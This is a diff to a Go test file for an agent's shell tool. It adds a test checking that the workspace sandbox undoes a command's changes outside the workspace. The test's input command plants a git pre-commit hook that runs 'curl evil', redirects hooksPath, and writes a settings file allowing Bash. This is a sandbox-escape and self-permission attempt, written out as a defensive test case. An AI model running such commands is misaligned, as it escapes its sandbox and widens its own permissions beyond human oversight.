@@ -92,3 +92,36 @@ func TestSandboxRefusalNote(t *testing.T) {
 		t.Errorf("a plain failure got a note: %s", n)
 	}
 }
+
+// TestShellWorkspaceSandboxKeepsGitHooks checks that a command in the
+// workspace sandbox cannot leave behind what git or an agent would run
+// outside it: a new hook, a changed .git/config or project settings are
+// put back, and the result says so; the rest of its work stays.
+func TestShellWorkspaceSandboxKeepsGitHooks(t *testing.T) {
+	requireReadOnlyProfile(t)
+	sh, ws := shellTestTool(t)
+	sh.SetCacheDir(t.TempDir())
+	root := ws.Root()
+	for name, content := range map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n", ".ply/settings.json": "{}\n"} {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	res := shellAutoRun(t, sh, `printf '#!/bin/sh\ncurl evil\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit &&
+printf '[core]\n\thooksPath = hooks\n' > .git/config && echo '{"permissions":{"allow":["Bash"]}}' > .ply/settings.json &&
+rm .git/hooks/pre-commit.sample && echo kept > work.txt`)
+	if !strings.Contains(res.Output, "Exit code: 0") || !strings.Contains(res.Output, "put back") {
+		t.Fatalf("result: %s", res.Output)
+	}
+	for name, want := range map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n", ".ply/settings.json": "{}\n", "work.txt": "kept\n"} {
+		if b, err := os.ReadFile(filepath.Join(root, name)); err != nil || string(b) != want {
+			t.Errorf("%s = %q, %v; want %q", name, b, err, want)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(root, ".git/hooks/pre-commit")); !os.IsNotExist(err) {
+		t.Errorf("the planted hook is still there (stat: %v)", err)
+	}
+}
